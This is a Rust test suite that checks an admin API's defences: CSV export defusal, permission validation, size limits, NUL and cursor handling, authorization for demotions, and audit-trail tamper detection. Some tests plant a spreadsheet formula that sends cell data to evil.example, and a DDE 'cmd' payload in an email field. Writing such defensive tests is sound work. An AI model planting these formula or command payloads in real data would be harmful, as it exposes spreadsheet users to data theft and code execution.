//! What an attacker with a site account, or an admin with ordinary grants,
//! can send: formula cells in exports, bloated permission overrides, NULs
//! in bodies and cursors, demotions without the right to revoke, oversized
//! stored rows, non-UTF-8 paths and oversized bodies. Each has a 4xx JSON
//! answer or a bounded one, and a refusal still leaves its audit row.

use axum::{
    body::Body,
    http::{Request, StatusCode},
};
use base64::Engine as _;
use serde_json::{Value, json};

use crate::{TestApp, spawn_app};

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;

async fn super_admin(app: &TestApp) -> String {
    app.admin("root", "super_admin", None).await
}

fn csv_cells(bytes: &[u8]) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .flat_map(|record| {
            record
                .expect("a CSV record")
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[tokio::test]
async fn every_cell_of_an_export_is_defused_whatever_its_column() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    // A site user whose email is a formula plants a refusal row by calling
    // an admin route; a grant body's email lands in resourceId.
    app.client
        .execute(
            r#"INSERT INTO "users" ("id", "email", "name", "updatedAt") VALUES ('mallory', $1, '+SUM(1)', now())"#,
            &[&FORMULA],
        )
        .await
        .expect("user");
    app.expect(
        "GET",
        "/api/admin/audit",
        Some(&app.token("mallory")),
        None,
        StatusCode::FORBIDDEN,
    )
    .await;
    app.expect(
        "POST",
        "/api/admin/users",
        Some(&root),
        Some(json!({"email": "@cmd|' /C calc'!A0", "role": "moderator"})),
        StatusCode::NOT_FOUND,
    )
    .await;

    let answer = app
        .send("GET", "/api/admin/audit/export", Some(&root), None)
        .await;

    assert_eq!(answer.status, StatusCode::OK);
    let cells = csv_cells(&answer.bytes);
    assert!(
        cells.iter().any(|c| c == &format!("'{FORMULA}")),
        "{cells:?}"
    );
    assert!(cells.iter().any(|c| c.starts_with("'@cmd")), "{cells:?}");
    for cell in &cells {
        assert!(
            !cell
                .trim_start()
                .starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula cell: {cell:?}"
        );
    }
}

#[tokio::test]
async fn an_override_listing_an_action_twice_is_a_400_naming_its_actions() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    app.admin("target", "moderator", None).await;

    let answer = app
        .expect(
            "PATCH",
            "/api/admin/users/target",
            Some(&root),
            Some(json!({"permissions": [{"resource": "deals", "actions": ["read", "update", "read"]}]})),
            StatusCode::BAD_REQUEST,
        )
        .await;

    assert_eq!(answer["error"]["field"], "permissions[0].actions");
}

#[tokio::test]
async fn overrides_are_stored_in_canonical_order() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    app.admin("target", "moderator", None).await;

    let answer = app
        .expect(
            "PATCH",
            "/api/admin/users/target",
            Some(&root),
            Some(json!({"permissions": [
                {"resource": "deals", "actions": ["update", "read"]},
                {"resource": "errors", "actions": ["read", "create", "update", "delete", "export"]},
            ]})),
            StatusCode::OK,
        )
        .await;

    assert_eq!(
        answer["permissions"],
        json!([
            {"resource": "deals", "actions": ["read", "update"]},
            {"resource": "errors", "actions": ["manage"]},
        ])
    );
}

#[tokio::test]
async fn an_admin_body_over_its_limit_is_a_413_json_error() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    app.admin("target", "moderator", None).await;
    let actions = vec!["read"; 20_000];

    let answer = app
        .expect(
            "PATCH",
            "/api/admin/users/target",
            Some(&root),
            Some(json!({"permissions": [{"resource": "deals", "actions": actions}]})),
            StatusCode::PAYLOAD_TOO_LARGE,
        )
        .await;

    assert_eq!(answer["error"]["code"], "payload_too_large");
    assert!(answer["error"]["requestId"].is_string());
}

/// An admin row as an older writer could have stored it: 2 MB of overrides.
async fn bloated_admin(app: &TestApp, id: &str) {
    app.user(id).await;
    app.client
        .execute(
            r#"INSERT INTO "admin_users" ("id", "userId", "role", "permissions", "updatedAt")
               VALUES ($1, $1, 'admin', jsonb_build_array(jsonb_build_object('resource', 'deals',
                       'actions', (SELECT jsonb_agg('read'::text) FROM generate_series(1, 270000)))), now())"#,
            &[&id],
        )
        .await
        .expect("bloated admin");
}

fn lambda_body_len(bytes: &[u8]) -> usize {
    serde_json::to_string(&String::from_utf8_lossy(bytes))
        .expect("json")
        .len()
}

#[tokio::test]
async fn a_list_of_oversized_rows_fits_a_lambda_response_with_markers() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    bloated_admin(&app, "bloated_1").await;
    bloated_admin(&app, "bloated_2").await;

    let answer = app
        .send("GET", "/api/admin/users?limit=3", Some(&root), None)
        .await;

    assert_eq!(answer.status, StatusCode::OK);
    assert!(lambda_body_len(&answer.bytes) < 4 * 1024 * 1024);
    let users = answer.json()["users"].as_array().expect("users").clone();
    let bloated = users
        .iter()
        .find(|u| u["userId"] == "bloated_1")
        .expect("the bloated admin is listed");
    assert_eq!(bloated["permissions"]["omitted"], true);
}

#[tokio::test]
async fn an_audit_page_of_huge_changes_fits_a_lambda_response() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    app.client
        .execute(
            r#"INSERT INTO "audit_logs" ("id", "userId", "userEmail", "userRole", "action", "resource", "resourceId", "changes")
               SELECT 'huge-' || n, 'app', 'app@example.com', 'admin', 'update', 'users', 'u',
                      jsonb_build_object('after', repeat('x', 3400000))
               FROM generate_series(1, 2) n"#,
            &[],
        )
        .await
        .expect("huge rows");

    let listed = app
        .send(
            "GET",
            "/api/admin/audit?limit=2&resource=users",
            Some(&root),
            None,
        )
        .await;
    let exported = app
        .send(
            "GET",
            "/api/admin/audit/export?resource=users",
            Some(&root),
            None,
        )
        .await;

    assert_eq!(listed.status, StatusCode::OK);
    assert!(lambda_body_len(&listed.bytes) < 4 * 1024 * 1024);
    assert_eq!(listed.json()["entries"].as_array().map(Vec::len), Some(2));
    assert_eq!(exported.status, StatusCode::OK);
    assert!(lambda_body_len(&exported.bytes) < 4 * 1024 * 1024);
    assert_eq!(
        csv_cells(&exported.bytes)
            .iter()
            .filter(|c| c.starts_with("huge-"))
            .count(),
        2
    );
}

#[tokio::test]
async fn a_nul_in_a_grant_body_is_a_400_and_its_refusal_is_still_audited() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    for body in [
        json!({"userId": "a\u{0}b", "role": "moderator"}),
        json!({"email": "a\u{0}b@example.com", "role": "moderator"}),
        json!({"userId": "x", "role": "moderator", "k\u{0}ey": 1}),
    ] {
        app.expect(
            "POST",
            "/api/admin/users",
            Some(&root),
            Some(body.clone()),
            StatusCode::BAD_REQUEST,
        )
        .await;
    }

    let refusals: Vec<Value> = app
        .audit_rows()
        .await
        .into_iter()
        .filter(|row| row["success"] == false)
        .collect();
    assert_eq!(refusals.len(), 3, "{refusals:?}");
    assert_eq!(refusals[0]["resourceId"], "a\u{FFFD}b");
    assert!(refusals.iter().all(|r| !r.to_string().contains("\\u0000")));
}

#[tokio::test]
async fn a_cursor_decoding_to_a_nul_is_a_400_naming_cursor_on_every_list() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    let forged = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode(json!(["2025-11-25T10:00:00", "id\u{0}"]).to_string());
    for route in [
        "/api/admin/users",
        "/api/admin/audit",
        "/api/admin/audit/export",
        "/api/admin/errors",
    ] {
        let answer = app
            .expect(
                "GET",
                &format!("{route}?cursor={forged}"),
                Some(&root),
                None,
                StatusCode::BAD_REQUEST,
            )
            .await;
        assert_eq!(answer["error"]["field"], "cursor", "{route}");
    }
}

#[tokio::test]
async fn demoting_an_admin_to_user_needs_users_delete() {
    let app = spawn_app().await;
    // An admin's defaults on users: read, update, export; no delete.
    let admin = app.admin("plain_admin", "admin", None).await;
    app.admin("other_admin", "moderator", None).await;

    let answer = app
        .expect(
            "PATCH",
            "/api/admin/users/other_admin",
            Some(&admin),
            Some(json!({"role": "user"})),
            StatusCode::FORBIDDEN,
        )
        .await;

    assert!(
        answer["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("users:delete"))
    );
    assert_eq!(
        app.count(r#"SELECT count(*) FROM "admin_users" WHERE "userId" = 'other_admin' AND "role" = 'moderator'"#)
            .await,
        1
    );
}

#[tokio::test]
async fn overrides_that_leave_no_permission_count_as_a_removal() {
    let app = spawn_app().await;
    let admin = app.admin("plain_admin", "admin", None).await;
    app.admin("other_admin", "moderator", None).await;

    app.expect(
        "PATCH",
        "/api/admin/users/other_admin",
        Some(&admin),
        Some(json!({"permissions": [{"resource": "*", "actions": []}]})),
        StatusCode::FORBIDDEN,
    )
    .await;
}

#[tokio::test]
async fn demoting_an_admin_to_user_with_users_delete_is_allowed() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    app.admin("other_admin", "moderator", None).await;

    let answer = app
        .expect(
            "PATCH",
            "/api/admin/users/other_admin",
            Some(&root),
            Some(json!({"role": "user"})),
            StatusCode::OK,
        )
        .await;

    assert_eq!(answer["role"], "user");
}

#[tokio::test]
async fn a_path_that_is_not_utf8_is_a_json_400_with_a_request_id() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;

    let answer = app
        .expect(
            "GET",
            "/api/admin/users/%FF%FE",
            Some(&root),
            None,
            StatusCode::BAD_REQUEST,
        )
        .await;

    assert_eq!(answer["error"]["code"], "bad_request");
    assert!(answer["error"]["requestId"].is_string());
}

#[tokio::test]
async fn a_session_with_extreme_lifetimes_is_answered_not_panicked_on() {
    let app = spawn_app().await;
    app.admin("root", "super_admin", None).await;
    let secret = crate::fixture_secret();
    let mint = |claims: Value| crate::v4_token_of(&secret, &claims);
    let send = |token: String| {
        Request::get("/api/admin/audit/verify")
            .header("cookie", format!("next-auth.session-token={token}"))
            .body(Body::empty())
            .expect("request")
    };

    let forever = app
        .raw(send(mint(
            json!({"sub": "root", "exp": i64::MAX, "iat": i64::MIN}),
        )))
        .await;
    let nul = app
        .raw(send(mint(json!({"sub": "ro\u{0}ot", "exp": i64::MAX}))))
        .await;

    assert_eq!(forever.status, StatusCode::OK);
    assert_eq!(nul.status, StatusCode::UNAUTHORIZED);
    assert_eq!(nul.json()["error"]["code"], "unauthorized");
}

#[tokio::test]
async fn a_truncated_trail_is_reported_as_restarted_with_the_range_it_covers() {
    let app = spawn_app().await;
    let root = super_admin(&app).await;
    app.error_group("g1", "fp", "error", "boom").await;
    for resolved in [true, false, true] {
        app.expect(
            "PATCH",
            "/api/admin/errors/g1",
            Some(&root),
            Some(json!({"resolved": resolved})),
            StatusCode::OK,
        )
        .await;
    }
    app.client
        .batch_execute(
            r#"BEGIN; SET LOCAL session_replication_role = replica;
               TRUNCATE "audit_logs", "audit_trail"."chain"; COMMIT;"#,
        )
        .await
        .expect("truncated behind the triggers");
    app.expect(
        "PATCH",
        "/api/admin/errors/g1",
        Some(&root),
        Some(json!({"resolved": false})),
        StatusCode::OK,
    )
    .await;

    let report = app
        .expect(
            "GET",
            "/api/admin/audit/verify",
            Some(&root),
            None,
            StatusCode::OK,
        )
        .await;

    assert_eq!(report["intact"], false, "{report}");
    assert_eq!(report["problems"][0]["kind"], "restarted", "{report}");
    assert_eq!(report["problems"][0]["first_seq"], 1);
    assert!(
        report["firstSeq"].as_i64().is_some_and(|s| s > 1),
        "{report}"
    );
    assert_eq!(report["firstSeq"], report["headSeq"]);
}
